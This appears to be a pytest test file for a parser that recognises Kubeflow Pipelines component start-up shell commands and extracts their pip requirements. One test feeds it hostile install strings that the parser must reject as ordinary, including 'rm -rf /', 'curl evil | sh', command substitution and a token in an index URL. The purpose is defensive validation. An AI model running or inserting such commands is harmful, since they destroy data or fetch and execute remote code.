"""KFP's start-up texts, as the real compiler and its ancestors write them."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from headrace.spec.bootstrap import PythonEntry, recognise

RUN = (
    'program_path=$(mktemp -d)\n\nprintf "%s" "$0" > "$program_path/ephemeral_component.py"\n'
    "_KFP_RUNTIME=true python3 -m kfp.dsl.executor_main                         --component_module_path"
    '                         "$program_path/ephemeral_component.py"                         "$@"\n'
)
OLD_RUN = (
    'program_path=$(mktemp -d)\nprintf "%s" "$0" > "$program_path/ephemeral_component.py"\n'
    "python3 -m kfp.components.executor_main                         --component_module_path"
    '                         "$program_path/ephemeral_component.py"                         "$@"\n'
)
HEAD = (
    '\nif ! [ -x "$(command -v pip)" ]; then\n'
    "    python3 -m ensurepip || python3 -m ensurepip --user || apt-get install python3-pip\nfi\n\n"
    "PIP_DISABLE_PIP_VERSION_CHECK=1 "
)
TAIL = ' && "$0" "$@"\n'
TYPING = """'--no-deps' 'typing-extensions>=3.7.4,<5; python_version<"3.9"'"""
ARGS = ["--executor_input", "{{$}}", "--function_to_execute", "train"]


def started(install: str | None, run: str = RUN) -> PythonEntry | None:
    tail = ["sh", "-ec", run, "def train(): ..."]
    return recognise(tail if install is None else ["sh", "-c", HEAD + install + TAIL, *tail], ARGS)


def compiled(**options) -> PythonEntry | None:
    from kfp import dsl

    def train(x: int) -> int:
        return x

    container = dsl.component(train, base_image="python:3.11", **options).component_spec.implementation.container
    return recognise(list(container.command), [str(arg) for arg in container.args])


REQUIREMENTS = [
    "pandas",
    "pandas>=2,<3",
    "torch[cuda]==2.4",
    'tomli; python_version < "3.11"',
    "x @ https://example.com/x-1.0-py3-none-any.whl",
    "git+https://github.com/a/b@main#subdirectory=c",
    "kfpx==1",
    "--pre",
]


@pytest.mark.kfp
@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ({}, {"kfp_requirement": "kfp"}),
        ({"install_kfp_package": False}, {}),
        ({"packages_to_install": ["a", "b==1"]}, {"requirements": ("a", "b==1"), "kfp_requirement": "kfp"}),
        ({"packages_to_install": ["a"], "install_kfp_package": False}, {"requirements": ("a",)}),
        ({"packages_to_install": ["kfp==2.9.0", "a"]}, {"requirements": ("a",), "kfp_requirement": "kfp==2.9.0"}),
        ({"packages_to_install": ["kfp-extra"]}, {"requirements": ("kfp-extra",)}),
        ({"packages_to_install": ["kfp[kubernetes]>=2"]}, {"kfp_requirement": "kfp[kubernetes]>=2"}),
        ({"kfp_package_path": "git+https://github.com/kubeflow/pipelines@master#subdirectory=sdk/python"},
         {"kfp_requirement": "git+https://github.com/kubeflow/pipelines@master#subdirectory=sdk/python"}),
        ({"kfp_package_path": "git+https://host/fork@refs/pull/1/head"}, {"kfp_requirement": "git+https://host/fork@refs/pull/1/head"}),
        ({"kfp_package_path": "/", "packages_to_install": ["a", "b"]}, {"requirements": ("a", "b"), "kfp_requirement": "/"}),
        ({"kfp_package_path": "mine.whl", "use_venv": True}, {"kfp_requirement": "mine.whl", "use_venv": True}),
        ({"use_venv": True, "packages_to_install": ["a"]}, {"requirements": ("a",), "kfp_requirement": "kfp", "use_venv": True}),
        ({"pip_index_urls": ["https://one/simple"]},
         {"kfp_requirement": "kfp", "index_urls": ("https://one/simple",), "trusted_hosts": ("https://one/simple",)}),
        ({"pip_index_urls": ["https://one/simple", "https://u:p@two/simple?x=1"], "pip_trusted_hosts": [], "packages_to_install": ["a"]},
         {"requirements": ("a",), "kfp_requirement": "kfp", "index_urls": ("https://one/simple", "https://u:p@two/simple?x=1")}),
        ({"pip_index_urls": ["https://one"], "pip_trusted_hosts": ["one", "two"]},
         {"kfp_requirement": "kfp", "index_urls": ("https://one",), "trusted_hosts": ("one", "two")}),
        ({"packages_to_install": REQUIREMENTS[:6]}, {"requirements": tuple(REQUIREMENTS[:6]), "kfp_requirement": "kfp"}),
        ({"packages_to_install": ["it's && odd"]}, {"requirements": ("it's && odd",), "kfp_requirement": "kfp"}),
    ],
)  # fmt: skip
def test_every_option_of_the_real_compiler(options: dict, expected: dict) -> None:
    import kfp

    entry = compiled(**options)
    assert entry is not None
    if expected.get("kfp_requirement") == "kfp":
        expected = {**expected, "kfp_requirement": f"kfp=={kfp.__version__}"}
    assert entry == PythonEntry(source=entry.source, function="train", **expected)
    assert "def train(x: int) -> int:" in entry.source


@pytest.mark.parametrize(
    ("install", "run", "requirements", "kfp"),
    [
        ("python3 -m pip install --quiet     --no-warn-script-location 'kfp==2.0.0-rc.1'", OLD_RUN, (), "kfp==2.0.0-rc.1"),
        ("python3 -m pip install --quiet     --no-warn-script-location 'pandas' 'kfp==2.0.1'", OLD_RUN, ("pandas",), "kfp==2.0.1"),
        (f"python3 -m pip install --quiet --no-warn-script-location 'kfp==2.1.3' {TYPING}", RUN, (), "kfp==2.1.3"),
        (
            f"python3 -m pip install --quiet --no-warn-script-location 'kfp==2.7.0' {TYPING}  &&  "
            "python3 -m pip install --quiet --no-warn-script-location 'huggingface-hub' 'boto3'",
            RUN, ("huggingface-hub", "boto3"), "kfp==2.7.0",
        ),
        ("python3 -m pip install --quiet --no-warn-script-location 'a'", RUN, ("a",), None),
        (None, RUN, (), None),
        (None, OLD_RUN, (), None),
    ],
)  # fmt: skip
def test_texts_of_older_compilers(install, run, requirements, kfp) -> None:
    entry = started(install, run)
    assert entry == PythonEntry(
        requirements=requirements, kfp_requirement=kfp, source="def train(): ...", function="train"
    )


def test_the_environment_of_older_compilers_comes_first() -> None:
    venv = (
        '\nexport PIP_DISABLE_PIP_VERSION_CHECK=1\n\ntmp=$(mktemp -d)\npython3 -m venv "$tmp/venv" --system-site-packages\n'
        '. "$tmp/venv/bin/activate"\n\n'
    )
    entry = started(
        f"{venv}python3 -m pip install --quiet --no-warn-script-location 'kfp==2.8.0' {TYPING}  &&  "
        "python3 -m pip install --quiet --no-warn-script-location 'a'"
    )
    assert entry is not None
    assert (entry.use_venv, entry.requirements, entry.kfp_requirement) == (True, ("a",), "kfp==2.8.0")


@pytest.mark.parametrize(
    "install",
    [
        "python3 -m pip install --quiet 'a'; rm -rf /",
        "python3 -m pip install --quiet $(curl evil)",
        'python3 -m pip install --quiet "$HOME"',
        "python3 -m pip install --quiet 'a' && curl evil | sh",
        "python3 -m pip install --quiet --index-url https://$TOKEN@host 'a'",
        "python3 -m pip install --quiet --index-url `id` 'a'",
        "python3 -m pip install --quiet 'a' > /tmp/x",
        "python3 -m pip install --quiet a",
        "python3 -m pip install --quiet 'a''b'",
        "python3 -m pip install --target /x 'a'",
        "python3 -m pip install --quiet",
        "apt-get install -y gcc && python3 -m pip install 'a'",
    ],
)
def test_what_the_shell_would_work_on_stays_an_ordinary_command(install: str) -> None:
    assert started(install) is None


@pytest.mark.parametrize(
    ("command", "args"),
    [
        (["python3", "-m", "kfp.dsl.executor_main"], ARGS),
        ([], ARGS),
        (["sh", "-ec", RUN, "source"], []),
        (["sh", "-ec", RUN, "source"], ["--function_to_execute", "not a name"]),
        (["sh", "-ec", RUN, "source", "more"], ARGS),
        (["sh", "-ec", RUN + "echo done\n", "source"], ARGS),
        (["sh", "-ec", "echo hello", "source"], ARGS),
        (["sh", "-c", "echo before && " + RUN, "sh", "-ec", RUN, "source"], ARGS),
    ],
)
def test_other_commands(command: list[str], args: list[str]) -> None:
    assert recognise(command, args) is None


def test_other_whitespace_and_extra_arguments() -> None:
    run = " ".join(RUN.split()).replace("executor_main ", "executor_main \\\n  ")
    entry = recognise(
        ["/bin/sh", "-ec", run, "s"], ["--function_to_execute=f", "--executor_input", "{}", "--more", "x"]
    )
    assert entry == PythonEntry(source="s", function="f", extra_args=("--more", "x"))


@pytest.mark.kfp
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1), min_size=1, max_size=4))
@settings(deadline=None)
def test_any_requirement_comes_back_or_the_command_stays_ordinary(packages: list[str]) -> None:
    from kfp.dsl import component_factory

    install = component_factory._get_packages_to_install_command(
        packages_to_install=packages, install_kfp_package=False
    )
    entry = recognise([*install, "sh", "-ec", RUN, "s"], ARGS)
    if entry is not None:
        found = list(entry.requirements)
        if entry.kfp_requirement is not None:
            found.append(entry.kfp_requirement)
        assert sorted(found) == sorted(packages)


@given(st.text(), st.text())
@settings(deadline=None)
def test_any_text_is_judged_quickly(install: str, run: str) -> None:
    assert recognise(["sh", "-c", HEAD + install + TAIL, "sh", "-ec", run, "s"], ARGS) is None
